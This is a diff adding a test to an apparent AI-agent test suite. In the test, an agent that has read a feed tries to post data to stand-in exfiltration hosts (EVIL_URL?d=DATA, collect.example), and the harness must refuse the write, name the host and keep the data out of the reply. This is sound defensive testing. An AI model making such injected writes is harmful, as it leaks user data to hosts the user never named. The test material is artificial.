@@ -43,6 +43,19 @@ test("addresses that the user did not name are left out of the text", async () =
   expect(run.text).toContain(`[the feed](${feedUrl()})`);
 });
 
+test.each([`${EVIL_URL}?d=DATA`, "https://collect.example/in#DATA"])(
+  "a refused write to %s names its host, word for word in both places, and makes no link of it",
+  async (url) => {
+    agent.turns({ calls: [readsFeed()] }, { calls: [call("http_post_json", { url, body: 1 })] });
+    const run = await agent.run(`Write a limerick about what you read in ${feedUrl()}.`);
+    const refused = run.of("tool_result").at(-1);
+    const reason = refused?.is_error ? refused.refusal_reason : "";
+    expect(reason).toContain(`the user did not name ${new URL(url).host} (url)`);
+    expect(run.text).toContain(reason);
+    expect(run.text).not.toContain("DATA");
+  },
+);
+
 test("the same text passes in a run that has read nothing", async () => {
   agent.turns({ text: `Here: [more](${EVIL_URL}).` });
   const run = await agent.run("Write a limerick about a teapot.");
